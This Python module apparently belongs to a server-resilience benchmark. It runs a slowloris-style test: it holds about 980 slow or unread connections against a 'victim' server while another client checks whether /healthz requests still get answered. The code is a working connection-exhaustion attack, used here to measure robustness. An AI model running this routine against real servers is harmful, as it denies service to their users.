"""Slow connections: hold a thousand of them while another client sends requests."""

from __future__ import annotations

import contextlib
import resource
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

from bench.victim import Victim

TICK_SECONDS = 0.25
DRIP_SECONDS = 3.0
OTHER_SECONDS = 2.0
"""Time limit for an answer to the other client."""
LOCKED_OUT = "locked out to the end"


class Kind(NamedTuple):
    name: str
    connections: int
    """Number of connections of each kind. All three kinds together have 980 connections. An unread blob may need two
    descriptors, so 1,024 descriptors are too few.
    """
    opening: bytes
    drip: bytes
    """Bytes sent repeatedly, one at a time after the first piece."""
    reads: bool = True


class Lives:
    """Durations of connections, from the connection table of the kernel. A client that does not read cannot see when a
    connection ends.
    """

    def __init__(self, port: int, seconds: float) -> None:
        self._port, self._seconds = port, seconds
        self._first: dict[int, float] = {}
        self._last: dict[int, float] = {}
        self._held: set[int] = set()

    def look(self) -> None:
        now, self._held = time.monotonic(), set(held_by_server(self._port))
        for port in self._held:
            self._first.setdefault(port, now)
            self._last[port] = now

    def text(self, ports: set[int]) -> str:
        lives = sorted(self._last[port] - self._first[port] for port in ports & self._first.keys() - self._held)
        ended = f"{len(lives)} ended within {lives[-1]:.0f} s" if lives else "none ended"
        waiting = len(ports - self._first.keys())
        after = f"{len(ports & self._held)} held after {self._seconds:.0f} s"
        return ", ".join([ended, after, *([f"{waiting} never accepted"] if waiting else [])])


def crowd(victim: Victim) -> str:
    """Hold the connections for some seconds. Return the outcome of each kind and of the other client."""
    allow_descriptors()
    seconds = 4.0 if victim.small else 40.0
    lives, others = Lives(victim.port, seconds), Others(victim, seconds)
    groups = [Group(victim, kind) for kind in kinds(victim)]
    asking = threading.Thread(target=others.ask)
    asking.start()
    hold(groups, lives, seconds)
    asking.join()
    outcomes = [f"{group.kind.name}: {lives.text(group.ports)}" for group in groups]
    for group in groups:
        group.close()
    return "; ".join([*outcomes, others.text()])


def kinds(victim: Victim) -> list[Kind]:
    first, second = victim.head("GET", "/healthz", login=False), b"GET /healthz HTTP/1.1\r\nX-Slow: "
    refused = victim.head("POST", "/rpc", "Content-Length: 1000", login=False)
    return [
        Kind("(c) unread blob", 60, victim.head("GET", f"/blobs/{victim.large_blob}"), b"", reads=False),
        Kind("(a) slow second head", 460, first, second),
        Kind("(b) 401, then a slow body", 460, refused, b""),
    ]


class Group:
    """Connections of one kind."""

    def __init__(self, victim: Victim, kind: Kind) -> None:
        self.kind = kind
        self._dripped = 0.0
        self._drips = 0
        self._open = [
            self._connected(victim) for _ in range(kind.connections // 10 if victim.small else kind.connections)
        ]
        self.ports = {connection.getsockname()[1] for connection in self._open}

    def _connected(self, victim: Victim) -> socket.socket:
        made = victim.connect(receive_buffer=0 if self.kind.reads else 4096)
        made.setblocking(False)
        with contextlib.suppress(OSError):
            made.send(self.kind.opening)
        return made

    def act(self) -> None:
        """Read received bytes, and send the next bytes when due."""
        if not self.kind.reads:
            return
        due = time.monotonic() - self._dripped > DRIP_SECONDS
        for connection in list(self._open):
            if self._is_over(connection, self._next_drip() if due else b""):
                self._open.remove(connection)
                connection.close()
        if due:
            self._dripped, self._drips = time.monotonic(), self._drips + 1

    def _next_drip(self) -> bytes:
        return b"" if self._drips == 0 else self.kind.drip if self._drips == 1 and self.kind.drip else b"x"

    def _is_over(self, connection: socket.socket, drip: bytes) -> bool:
        try:
            if drip:
                connection.send(drip)
            return connection.recv(65_536) == b""
        except BlockingIOError:
            return False
        except OSError:
            return True

    def close(self) -> None:
        for connection in self._open:
            connection.close()


def hold(groups: list[Group], lives: Lives, seconds: float) -> None:
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        for group in groups:
            group.act()
        lives.look()
        time.sleep(TICK_SECONDS)


class Others:
    """A client that takes no part in the attack. It requests /healthz on a new connection four times a second."""

    def __init__(self, victim: Victim, seconds: float) -> None:
        self._victim = victim
        self._seconds = seconds
        self._answered: list[bool] = []
        self._again = 0.0

    def ask(self) -> None:
        began = time.monotonic()
        while (since := time.monotonic() - began) < self._seconds:
            self._answered.append(self._is_answered())
            if not self._answered[-1]:
                self._again = since
            time.sleep(TICK_SECONDS)

    def _is_answered(self) -> bool:
        head = self._victim.head("GET", "/healthz", "Connection: close", login=False)
        address = (self._victim.host, self._victim.port)
        try:
            with socket.create_connection(address, OTHER_SECONDS) as connection:
                connection.sendall(head)
                return connection.recv(4096).startswith(b"HTTP/1.1 200 ")
        except OSError:
            return False

    def text(self) -> str:
        share = f"another client: {sum(self._answered)} of {len(self._answered)} requests answered"
        if not all(self._answered[-3:]):
            return f"{share}, {LOCKED_OUT}"
        return share + (f", the last failure after {self._again:.0f} s" if self._again else "")


def held_by_server(port: int) -> Iterator[int]:
    """Yield the client ports of connections that a process has accepted and not closed."""
    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
        fields = line.split()
        if int(fields[1].split(":")[1], 16) == port and fields[9] != "0":
            yield int(fields[2].split(":")[1], 16)


def allow_descriptors() -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = 2_000
    if soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(wanted, hard) if hard > 0 else wanted, hard))
